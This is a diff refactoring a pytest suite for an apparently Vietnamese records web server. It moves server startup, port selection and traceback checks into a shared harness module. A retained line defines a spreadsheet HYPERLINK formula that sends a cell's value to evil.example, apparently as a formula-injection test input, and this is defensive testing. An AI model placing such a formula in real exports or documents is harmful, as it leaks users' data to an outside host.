@@ -17,7 +17,6 @@ import io
 import json
 import os
 import re
-import socket
 import statistics
 import subprocess
 import sys
@@ -25,7 +24,6 @@ import threading
 import time
 import urllib.parse
 from datetime import datetime
-from pathlib import Path
 from zoneinfo import ZoneInfo
 
 import pytest
@@ -39,8 +37,8 @@ from pipeline.datadir import DataDir
 from pipeline.ingest_run import ingest_paths
 from pipeline.models import IngestOptions
 from samples.batch import generate_batch
+from tests.web_harness import ROOT, assert_no_traceback, free_port, serve
 
-ROOT = Path(__file__).resolve().parent.parent
 OFFICER, PASSWORD = "Nguyễn Thị Lan", "mat-khau-quay-1"
 SUPERVISOR, SUPERVISOR_PASSWORD = "Phạm Văn Hùng", "mat-khau-giam-sat"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Xem")'
@@ -73,34 +71,12 @@ def world(tmp_path_factory):
     return data, docs
 
 
-def _free_port() -> int:
-    with socket.socket() as s:
-        s.bind(("127.0.0.1", 0))
-        return s.getsockname()[1]
-
-
 @pytest.fixture(scope="module")
 def server(world):
     data, _ = world
-    port = _free_port()
-    log = open(data.root / "serve.log", "w+", encoding="utf-8")
-    process = subprocess.Popen([sys.executable, "-m", "cli", "serve", "--port", str(port), "--data-dir",
-                                str(data.root)], stdout=log, stderr=subprocess.STDOUT, cwd=ROOT)
-    deadline = time.monotonic() + 60
-    while True:
-        try:
-            if Client(port).get("/dang-nhap")[0] == 200:
-                break
-        except OSError:
-            pass
-        if process.poll() is not None or time.monotonic() > deadline:
-            log.seek(0)
-            pytest.fail(f"hoso serve did not start: {log.read()[-2000:]}")
-        time.sleep(0.3)
-    yield port
-    process.terminate()
-    process.wait(timeout=20)
-    log.close()
+    port = free_port()
+    with serve(data.root, port=port):
+        yield port
 
 
 class Client:
@@ -375,5 +351,4 @@ def test_a_not_found_message_does_not_name_the_data_folder(world, server):
 def test_the_probe_left_no_traceback_in_the_server_log(world, server):
     data, _ = world
     time.sleep(0.5)  # the server's last lines reach the file
-    log = (data.root / "serve.log").read_text(encoding="utf-8", errors="replace")
-    assert "Traceback" not in log, log[log.find("Traceback"):][:1500]
+    assert_no_traceback(data.root / "serve.log")
